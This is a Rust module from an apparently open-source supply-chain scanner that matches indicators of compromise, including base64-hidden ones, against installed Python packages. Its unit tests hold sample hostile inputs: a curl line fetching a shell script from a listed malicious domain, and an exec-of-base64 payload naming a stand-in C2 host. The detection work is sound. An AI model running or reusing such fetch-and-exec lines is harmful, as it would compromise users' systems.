//! Indicators of compromise: file hashes, domains, URLs, IPs, file names and
//! home-relative paths from public reports, matched against installed files.
//!
//! The shipped set (`data/iocs.toml`) holds only indicators with a public
//! source (an OSV advisory id or a report URL); users add their own with
//! [`IocSet::load_extra`]. Content matching is one Aho-Corasick pass over the
//! bytes, plus one pass over each obvious base64 blob decoded once (the
//! litellm 1.82.8 `.pth` hid its endpoint in a base64 payload).

use crate::hashing;
use crate::ownership;
use crate::record::hex;
use crate::rules;
use crate::verify::VerifyReport;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use chainwarden_core::fsutil;
use chainwarden_core::inventory::InputError;
use chainwarden_core::{Finding, Location, Package};
use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeSet, HashMap};
use std::fs;
use std::path::{Path, PathBuf};

/// The shipped indicators.
pub const BUILTIN_IOCS: &str = include_str!("../data/iocs.toml");

/// What an indicator value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum IndicatorKind {
    /// sha256 of a file, lower-case hex.
    Sha256,
    /// A host name; also matches its sub-domains.
    Domain,
    Url,
    Ip,
    /// A home-relative path (`~/.config/x/y`) left by a campaign.
    Path,
    /// A file name dropped into an installed tree.
    Filename,
}

impl IndicatorKind {
    pub fn as_str(self) -> &'static str {
        match self {
            IndicatorKind::Sha256 => "sha256",
            IndicatorKind::Domain => "domain",
            IndicatorKind::Url => "url",
            IndicatorKind::Ip => "ip",
            IndicatorKind::Path => "path",
            IndicatorKind::Filename => "filename",
        }
    }
}

/// One indicator and where it was published.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Indicator {
    pub kind: IndicatorKind,
    pub value: String,
    /// Advisory id or report URL.
    pub source: String,
    #[serde(default)]
    pub campaign: String,
    /// For file names: the ecosystem whose trees it applies to (`PyPI`, `npm`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ecosystem: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct IocFile {
    #[serde(default)]
    indicator: Vec<Indicator>,
}

/// An indicator file that could not be used.
#[derive(Debug, thiserror::Error)]
pub enum IocError {
    #[error(transparent)]
    Read(#[from] fsutil::FsError),
    #[error("{path}: {message}")]
    Invalid { path: PathBuf, message: String },
}

/// A set of indicators.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct IocSet {
    indicators: Vec<Indicator>,
}

/// Shortest content pattern accepted (shorter ones match everywhere).
const MIN_PATTERN: usize = 4;

impl IocSet {
    /// The indicators shipped with chainwarden.
    pub fn builtin() -> IocSet {
        // The shipped file is tested to parse; an error here is a build defect
        // and yields an empty set rather than a panic.
        IocSet::from_toml(BUILTIN_IOCS, Path::new("data/iocs.toml")).unwrap_or_default()
    }

    /// Parses an indicator file (`[[indicator]]` tables); `origin` names it in errors.
    pub fn from_toml(text: &str, origin: &Path) -> Result<IocSet, IocError> {
        let invalid = |message: String| IocError::Invalid {
            path: origin.to_path_buf(),
            message,
        };
        let file: IocFile = toml::from_str(text).map_err(|e| invalid(e.to_string()))?;
        let mut set = IocSet::default();
        for (i, mut ind) in file.indicator.into_iter().enumerate() {
            normalise(&mut ind).map_err(|m| invalid(format!("indicator #{}: {m}", i + 1)))?;
            set.push(ind);
        }
        Ok(set)
    }

    /// Merges a user's indicator file; returns how many new indicators it added.
    pub fn load_extra(&mut self, path: &Path) -> Result<usize, IocError> {
        let text = fsutil::read_text(path, fsutil::MAX_TEXT_FILE)?;
        let extra = IocSet::from_toml(&text, path)?;
        let before = self.indicators.len();
        for ind in extra.indicators {
            self.push(ind);
        }
        Ok(self.indicators.len() - before)
    }

    fn push(&mut self, ind: Indicator) {
        let dup = self
            .indicators
            .iter()
            .any(|o| o.kind == ind.kind && o.value == ind.value && o.source == ind.source);
        if !dup {
            self.indicators.push(ind);
        }
    }

    pub fn indicators(&self) -> &[Indicator] {
        &self.indicators
    }

    pub fn contains(&self, kind: IndicatorKind, value: &str) -> bool {
        self.indicators
            .iter()
            .any(|i| i.kind == kind && i.value.eq_ignore_ascii_case(value))
    }

    /// Builds the matcher (do this once per run).
    pub fn matcher(&self) -> IocMatcher {
        IocMatcher::new(self.clone())
    }
}

fn normalise(ind: &mut Indicator) -> Result<(), String> {
    ind.value = ind.value.trim().to_string();
    if ind.source.trim().is_empty() {
        return Err(format!("`{}` has no source", ind.value));
    }
    let v = &ind.value;
    match ind.kind {
        IndicatorKind::Sha256 => {
            if v.len() != 64 || !v.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(format!("sha256 `{v}` is not 64 hex digits"));
            }
            ind.value = v.to_ascii_lowercase();
        }
        IndicatorKind::Domain | IndicatorKind::Url | IndicatorKind::Ip => {
            if v.len() < MIN_PATTERN || v.bytes().any(|b| b.is_ascii_whitespace() || !b.is_ascii())
            {
                return Err(format!(
                    "{} `{v}` must be ASCII, without spaces, at least {MIN_PATTERN} characters",
                    ind.kind.as_str()
                ));
            }
            if ind.kind == IndicatorKind::Domain {
                ind.value = v.to_ascii_lowercase();
            }
        }
        IndicatorKind::Path => {
            if !v.starts_with("~/") || v.split('/').any(|c| c == "..") {
                return Err(format!(
                    "path `{v}` must start with `~/` and not contain `..`"
                ));
            }
        }
        IndicatorKind::Filename => {
            if v.is_empty() || v.contains('/') || v.contains('\\') {
                return Err(format!("file name `{v}` must be a bare name"));
            }
        }
    }
    Ok(())
}

/// Where in a file an indicator was seen.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case", tag = "by")]
pub enum MatchedBy {
    /// In the bytes, at this offset.
    Content { offset: usize },
    /// Inside a base64 blob starting at `blob_offset`, once decoded.
    Base64 { blob_offset: usize },
    /// The file's sha256.
    Sha256,
    /// The file's name.
    FileName,
    /// The path exists in the home folder.
    PathExists,
}

/// A content or hash match, before it is tied to a file.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ContentHit {
    /// Index into [`IocMatcher::indicators`].
    pub indicator: usize,
    pub by: MatchedBy,
}

/// Compiled indicators.
#[derive(Debug, Clone)]
pub struct IocMatcher {
    set: IocSet,
    /// Content patterns (domains, URLs without scheme, IPs), lower-cased.
    ac: Option<AhoCorasick>,
    pattern_indicator: Vec<usize>,
    sha256: HashMap<String, Vec<usize>>,
    filenames: HashMap<String, Vec<usize>>,
}

/// Base64 runs shorter than this are not worth decoding.
const MIN_BASE64_RUN: usize = 32;

impl IocMatcher {
    fn new(set: IocSet) -> IocMatcher {
        let mut patterns = Vec::new();
        let mut pattern_indicator = Vec::new();
        let mut sha256: HashMap<String, Vec<usize>> = HashMap::new();
        let mut filenames: HashMap<String, Vec<usize>> = HashMap::new();
        for (i, ind) in set.indicators.iter().enumerate() {
            match ind.kind {
                IndicatorKind::Domain | IndicatorKind::Ip => {
                    patterns.push(ind.value.to_ascii_lowercase());
                    pattern_indicator.push(i);
                }
                IndicatorKind::Url => {
                    // Match with or without scheme (http/https variants alike).
                    let v = ind.value.to_ascii_lowercase();
                    let bare = v.split_once("://").map_or(v.as_str(), |(_, r)| r);
                    patterns.push(bare.to_string());
                    pattern_indicator.push(i);
                }
                IndicatorKind::Sha256 => sha256.entry(ind.value.clone()).or_default().push(i),
                IndicatorKind::Filename => filenames
                    .entry(ind.value.to_ascii_lowercase())
                    .or_default()
                    .push(i),
                IndicatorKind::Path => {}
            }
        }
        let ac = (!patterns.is_empty())
            .then(|| {
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::Standard)
                    .build(&patterns)
                    .ok()
            })
            .flatten();
        IocMatcher {
            set,
            ac,
            pattern_indicator,
            sha256,
            filenames,
        }
    }

    pub fn indicators(&self) -> &[Indicator] {
        &self.set.indicators
    }

    pub fn indicator(&self, idx: usize) -> Option<&Indicator> {
        self.set.indicators.get(idx)
    }

    /// Indicators matching a file's sha256.
    pub fn match_sha256(&self, digest: &[u8; 32]) -> Vec<usize> {
        self.sha256.get(&hex(digest)).cloned().unwrap_or_default()
    }

    /// Indicators matching a file name, for a tree of `ecosystem`.
    pub fn match_filename(&self, name: &str, ecosystem: &str) -> Vec<usize> {
        self.filenames
            .get(&name.to_ascii_lowercase())
            .map(|v| {
                v.iter()
                    .copied()
                    .filter(|&i| {
                        self.indicator(i).is_some_and(|ind| {
                            ind.ecosystem
                                .as_deref()
                                .is_none_or(|e| e.eq_ignore_ascii_case(ecosystem))
                        })
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Domains, URLs and IPs in `bytes`, and in each base64 blob of at most
    /// `max_blob` bytes decoded once (not recursively).
    pub fn match_content(&self, bytes: &[u8], max_blob: usize) -> Vec<ContentHit> {
        let mut hits = BTreeSet::new();
        self.match_plain(bytes, |indicator, offset| {
            hits.insert(ContentHit {
                indicator,
                by: MatchedBy::Content { offset },
            });
        });
        for (start, run) in base64_runs(bytes, max_blob) {
            if let Some(decoded) = decode_base64(run) {
                self.match_plain(&decoded, |indicator, _| {
                    hits.insert(ContentHit {
                        indicator,
                        by: MatchedBy::Base64 { blob_offset: start },
                    });
                });
            }
        }
        hits.into_iter().collect()
    }

    fn match_plain(&self, bytes: &[u8], mut found: impl FnMut(usize, usize)) {
        let Some(ac) = &self.ac else { return };
        for m in ac.find_overlapping_iter(bytes) {
            let Some(&idx) = self.pattern_indicator.get(m.pattern().as_usize()) else {
                continue;
            };
            let Some(ind) = self.indicator(idx) else {
                continue;
            };
            if bounded(bytes, m.start(), m.end(), ind.kind) {
                found(idx, m.start());
            }
        }
    }
}

/// A domain or IP must stand alone: `notlitellm.cloud` and
/// `litellm.cloudy.net` are not `litellm.cloud`; `models.litellm.cloud` is a
/// sub-domain and matches.
fn bounded(bytes: &[u8], start: usize, end: usize, kind: IndicatorKind) -> bool {
    let label = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let before = start.checked_sub(1).and_then(|i| bytes.get(i)).copied();
    let after = bytes.get(end).copied();
    let after2 = bytes.get(end + 1).copied();
    match kind {
        IndicatorKind::Domain => {
            let glued_before = before.is_some_and(label);
            let glued_after =
                after.is_some_and(label) || (after == Some(b'.') && after2.is_some_and(label));
            !glued_before && !glued_after
        }
        IndicatorKind::Ip => {
            let ipch = |b: u8| b.is_ascii_digit() || b == b'.';
            let digit = |b: u8| b.is_ascii_digit();
            let glued_after =
                after.is_some_and(digit) || (after == Some(b'.') && after2.is_some_and(digit));
            !before.is_some_and(ipch) && !glued_after
        }
        _ => !before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-'),
    }
}

/// Runs of base64 characters worth decoding: at least [`MIN_BASE64_RUN`] long
/// and at most `max_blob` long.
fn base64_runs(bytes: &[u8], max_blob: usize) -> Vec<(usize, &[u8])> {
    /// Byte classes: 0 not base64, 1 other base64, 2 upper, 4 lower, 8 digit.
    const CLASS: [u8; 256] = {
        let mut t = [0u8; 256];
        let mut i = 0;
        while i < 256 {
            let b = i as u8;
            t[i] = if b.is_ascii_uppercase() {
                2
            } else if b.is_ascii_lowercase() {
                4
            } else if b.is_ascii_digit() {
                8
            } else if matches!(b, b'+' | b'/' | b'-' | b'_' | b'=') {
                1
            } else {
                0
            };
            i += 1;
        }
        t
    };
    let mut out = Vec::new();
    let mut start = 0;
    let mut seen = 0u8;
    // One pass; a sentinel non-base64 byte closes the last run.
    for (i, &b) in bytes.iter().chain(std::iter::once(&b' ')).enumerate() {
        let class = CLASS[usize::from(b)];
        if class != 0 {
            seen |= class;
            continue;
        }
        let len = i - start;
        // Encoded data mixes upper case, lower case and digits; identifiers
        // and paths in source code rarely do, and are not worth decoding.
        if len >= MIN_BASE64_RUN && len <= max_blob && seen & 14 == 14 {
            out.push((start, bytes.get(start..i).unwrap_or_default()));
        }
        start = i + 1;
        seen = 0;
    }
    out
}

fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let url_safe = run.iter().any(|&b| b == b'-' || b == b'_');
    let engine = if url_safe {
        GeneralPurpose::new(&alphabet::URL_SAFE, config)
    } else {
        GeneralPurpose::new(&alphabet::STANDARD, config)
    };
    let trimmed: &[u8] = {
        let body_len = run.iter().take_while(|&&b| b != b'=').count();
        let body = run.get(..body_len).unwrap_or_default();
        // A length of 4n+1 is never valid base64: drop the stray character.
        if body.len() % 4 == 1 {
            body.get(..body.len() - 1).unwrap_or_default()
        } else {
            body
        }
    };
    engine.decode(trimmed).ok()
}

/// How [`scan_site_dir`] looks.
#[derive(Debug, Clone)]
pub struct IocScanOptions {
    /// Files larger than this are not read for content (hash matches still
    /// apply when `verify` hashed them).
    pub max_file_size: u64,
    /// Read every file under site-packages, not only top-level files.
    pub deep: bool,
    /// Largest base64 blob decoded.
    pub max_base64_blob: usize,
    pub max_files: usize,
}

impl Default for IocScanOptions {
    fn default() -> Self {
        IocScanOptions {
            max_file_size: 1024 * 1024,
            deep: false,
            max_base64_blob: 1024 * 1024,
            max_files: 500_000,
        }
    }
}

/// One indicator seen in one file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct IocHit {
    pub indicator: Indicator,
    pub path: PathBuf,
    pub by: MatchedBy,
    /// The distribution whose RECORD lists the file.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub owner: Option<Package>,
}

/// What an indicator scan found.
#[derive(Debug, Clone, Default)]
pub struct IocReport {
    pub hits: Vec<IocHit>,
    pub files_read: usize,
    pub bytes_read: u64,
    pub errors: Vec<InputError>,
}

/// Matches indicators against one site-packages folder: names and content
/// of top-level files (all files when `deep`), sha256 of each file read, and,
/// when a `verify` report is given, the sha256 and names of every file it
/// hashed. Symlinks are never followed. Without a verify report, RECORDs are
/// read only when something matched, to name the owning distribution.
pub fn scan_site_dir(
    site_dir: &Path,
    env_root: &Path,
    matcher: &IocMatcher,
    opts: &IocScanOptions,
    verify: Option<&VerifyReport>,
) -> IocReport {
    let mut report = IocReport::default();
    let mut raw: Vec<(usize, PathBuf, MatchedBy)> = Vec::new();
    if let Some(v) = verify {
        for path in v.owners.keys() {
            if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
                for idx in matcher.match_filename(name, "PyPI") {
                    raw.push((idx, path.clone(), MatchedBy::FileName));
                }
            }
        }
        for (path, digest) in &v.sha256 {
            for idx in matcher.match_sha256(digest) {
                raw.push((idx, path.clone(), MatchedBy::Sha256));
            }
        }
    }
    let files = files_to_read(site_dir, opts, &mut report);
    for path in &files {
        if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
            for idx in matcher.match_filename(name, "PyPI") {
                raw.push((idx, path.clone(), MatchedBy::FileName));
            }
        }
    }
    let results: Vec<(PathBuf, ScanResult)> = files
        .into_par_iter()
        .map(|path| {
            let r = scan_one(&path, matcher, opts, verify);
            (path, r)
        })
        .collect();
    for (path, r) in results {
        match r {
            Ok((size, hits)) => {
                report.files_read += 1;
                report.bytes_read += size;
                raw.extend(hits.into_iter().map(|h| (h.indicator, path.clone(), h.by)));
            }
            Err(e) => report.errors.push(InputError::new(&path, e)),
        }
    }
    if raw.is_empty() {
        return report;
    }

    let own_storage;
    let (owners, dists): (&HashMap<PathBuf, Vec<usize>>, Vec<&Package>) = match verify {
        Some(v) => (
            &v.owners,
            v.distributions.iter().map(|d| &d.package).collect(),
        ),
        None => {
            own_storage = ownership::read_ownership(site_dir, env_root);
            (
                &own_storage.owners,
                own_storage
                    .distributions
                    .iter()
                    .map(|d| &d.package)
                    .collect(),
            )
        }
    };
    for (idx, path, by) in raw {
        let Some(ind) = matcher.indicator(idx) else {
            continue;
        };
        let owner = owners
            .get(&path)
            .and_then(|v| v.first())
            .and_then(|&i| dists.get(i))
            .map(|p| (*p).clone());
        report.hits.push(IocHit {
            indicator: ind.clone(),
            path,
            by,
            owner,
        });
    }
    report
        .hits
        .sort_by(|a, b| (&a.path, &a.indicator, &a.by).cmp(&(&b.path, &b.indicator, &b.by)));
    report.hits.dedup();
    report
}

/// Matches indicators in given files (start-up hooks found by another
/// analyzer, say). Files larger than `max_file_size` are skipped with an error.
pub fn scan_files(paths: &[PathBuf], matcher: &IocMatcher, opts: &IocScanOptions) -> IocReport {
    let mut report = IocReport::default();
    for path in paths {
        match scan_one(path, matcher, opts, None) {
            Ok((size, hits)) => {
                report.files_read += 1;
                report.bytes_read += size;
                for h in hits {
                    if let Some(ind) = matcher.indicator(h.indicator) {
                        report.hits.push(IocHit {
                            indicator: ind.clone(),
                            path: path.clone(),
                            by: h.by,
                            owner: None,
                        });
                    }
                }
            }
            Err(e) => report.errors.push(InputError::new(path, e)),
        }
    }
    report
}

/// Home-relative path indicators (`~/…`) that exist under `home` (the path
/// itself is checked, never followed or read).
pub fn scan_home_paths(home: &Path, matcher: &IocMatcher) -> Vec<IocHit> {
    matcher
        .indicators()
        .iter()
        .filter(|i| i.kind == IndicatorKind::Path)
        .filter_map(|i| {
            let rel = i.value.strip_prefix("~/")?;
            let p = fsutil::join_inside(home, rel)?;
            fs::symlink_metadata(&p).ok()?;
            Some(IocHit {
                indicator: i.clone(),
                path: p,
                by: MatchedBy::PathExists,
                owner: None,
            })
        })
        .collect()
}

fn files_to_read(site_dir: &Path, opts: &IocScanOptions, report: &mut IocReport) -> Vec<PathBuf> {
    let depth = if opts.deep { 48 } else { 1 };
    let mut out = Vec::new();
    for item in walkdir::WalkDir::new(site_dir)
        .follow_links(false)
        .min_depth(1)
        .max_depth(depth)
        .sort_by_file_name()
    {
        let entry = match item {
            Ok(e) => e,
            Err(e) => {
                report
                    .errors
                    .push(InputError::new(e.path().unwrap_or(site_dir), e.to_string()));
                continue;
            }
        };
        if !entry.file_type().is_file() {
            continue;
        }
        if out.len() >= opts.max_files {
            report.errors.push(InputError::new(
                site_dir,
                format!("stopped after {} files", opts.max_files),
            ));
            break;
        }
        let small = entry
            .metadata()
            .is_ok_and(|m| m.len() <= opts.max_file_size);
        if small {
            out.push(entry.into_path());
        }
    }
    out
}

/// Bytes read and hits, or why the file was not read.
type ScanResult = Result<(u64, Vec<ContentHit>), String>;

fn scan_one(
    path: &Path,
    matcher: &IocMatcher,
    opts: &IocScanOptions,
    verify: Option<&VerifyReport>,
) -> ScanResult {
    let meta = fs::symlink_metadata(path).map_err(|e| e.to_string())?;
    if !meta.is_file() {
        return Err("not a regular file; not read".to_string());
    }
    let bytes = fsutil::read_bounded(path, opts.max_file_size).map_err(|e| e.to_string())?;
    let mut hits = matcher.match_content(&bytes, opts.max_base64_blob);
    // Hash once more only when verify did not already.
    if verify.is_none_or(|v| !v.sha256.contains_key(path)) {
        let digest = hashing::sha256(&bytes);
        hits.extend(
            matcher
                .match_sha256(&digest)
                .into_iter()
                .map(|indicator| ContentHit {
                    indicator,
                    by: MatchedBy::Sha256,
                }),
        );
    }
    Ok((bytes.len() as u64, hits))
}

/// One `ioc/match` finding per indicator and file.
pub fn ioc_findings(report: &IocReport) -> Vec<Finding> {
    report.hits.iter().map(hit_finding).collect()
}

/// The finding of one hit (also for hits from [`scan_home_paths`]).
pub fn hit_finding(hit: &IocHit) -> Finding {
    let ind = &hit.indicator;
    let how = match &hit.by {
        MatchedBy::Content { offset } => format!("found in the file at byte {offset}"),
        MatchedBy::Base64 { blob_offset } => {
            format!("found inside a base64 payload at byte {blob_offset}, once decoded")
        }
        MatchedBy::Sha256 => "the file's sha256 is the indicator".to_string(),
        MatchedBy::FileName => "the file has the indicator's name".to_string(),
        MatchedBy::PathExists => "the path exists".to_string(),
    };
    let who = hit
        .owner
        .as_ref()
        .map(|p| format!("{p}: "))
        .unwrap_or_default();
    let mut f = Finding::new(
        &rules::IOC_MATCH,
        format!(
            "{who}{} indicator `{}` in {}",
            ind.kind.as_str(),
            ind.value,
            hit.path.display()
        ),
    )
    .location(Location::file(&hit.path))
    .evidence(format!(
        "indicator {} `{}` (source {}{})",
        ind.kind.as_str(),
        ind.value,
        ind.source,
        if ind.campaign.is_empty() {
            String::new()
        } else {
            format!("; campaign {}", ind.campaign)
        }
    ))
    .evidence(how);
    if let Some(p) = &hit.owner {
        f = f.package(p);
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(toml: &str) -> IocSet {
        IocSet::from_toml(toml, Path::new("t.toml")).unwrap()
    }

    #[test]
    fn builtin_parses_and_has_sources() {
        let b = IocSet::from_toml(BUILTIN_IOCS, Path::new("data/iocs.toml")).unwrap();
        assert!(b.indicators().len() > 30);
        assert!(b.contains(IndicatorKind::Domain, "litellm.cloud"));
        assert!(b.contains(IndicatorKind::Filename, "litellm_init.pth"));
        assert!(b.indicators().iter().all(|i| !i.source.is_empty()));
    }

    #[test]
    fn domain_boundaries() {
        let m =
            set("[[indicator]]\nkind='domain'\nvalue='litellm.cloud'\nsource='MAL-2026-2144'\n")
                .matcher();
        let hit = |s: &str| !m.match_content(s.as_bytes(), 1 << 20).is_empty();
        assert!(hit("x = 'https://models.litellm.cloud/'"));
        assert!(hit("LITELLM.CLOUD"));
        assert!(hit("litellm.cloud."));
        assert!(!hit("notlitellm.cloud"));
        assert!(!hit("litellm.cloudy.net"));
        assert!(!hit("litellm.cloud.example.org"));
    }

    #[test]
    fn url_without_scheme_and_ip() {
        let m = set(
            "[[indicator]]\nkind='url'\nvalue='https://bitensor.xyz/realtek.sh'\nsource='MAL-2026-99'\n\
             [[indicator]]\nkind='ip'\nvalue='23.227.203.99'\nsource='MAL-2026-99'\n",
        )
        .matcher();
        assert_eq!(
            m.match_content(b"curl http://bitensor.xyz/realtek.sh", 1 << 20)
                .len(),
            1
        );
        assert_eq!(m.match_content(b"host=23.227.203.99:80", 1 << 20).len(), 1);
        assert!(m.match_content(b"123.227.203.99", 1 << 20).is_empty());
        assert!(m.match_content(b"23.227.203.991", 1 << 20).is_empty());
    }

    #[test]
    fn base64_payload_decoded_once() {
        let m =
            set("[[indicator]]\nkind='domain'\nvalue='evil.example'\nsource='test'\n").matcher();
        let inner = base64::engine::general_purpose::STANDARD
            .encode(b"import os; URL = 'https://c2.evil.example/x' # padding padding");
        let text = format!("exec(base64.b64decode(\"{inner}\"))");
        let hits = m.match_content(text.as_bytes(), 1 << 20);
        assert_eq!(hits.len(), 1);
        assert!(
            matches!(hits[0].by, MatchedBy::Base64 { blob_offset: 23 }),
            "{hits:?}"
        );
        // Nested base64 is not decoded twice.
        let twice = base64::engine::general_purpose::STANDARD.encode(inner.as_bytes());
        assert!(m.match_content(twice.as_bytes(), 1 << 20).is_empty());
        // Too-large blobs are skipped.
        assert!(m.match_content(text.as_bytes(), 16).is_empty());
    }

    #[test]
    fn invalid_user_indicators_are_named() {
        for bad in [
            "[[indicator]]\nkind='sha256'\nvalue='xyz'\nsource='me'\n",
            "[[indicator]]\nkind='domain'\nvalue='a'\nsource='me'\n",
            "[[indicator]]\nkind='domain'\nvalue='ok.example'\nsource=''\n",
            "[[indicator]]\nkind='path'\nvalue='/etc/passwd'\nsource='me'\n",
            "[[indicator]]\nkind='nonsense'\nvalue='x'\nsource='me'\n",
        ] {
            let e = IocSet::from_toml(bad, Path::new("extra.toml")).unwrap_err();
            assert!(e.to_string().starts_with("extra.toml: "), "{e}");
        }
    }
}
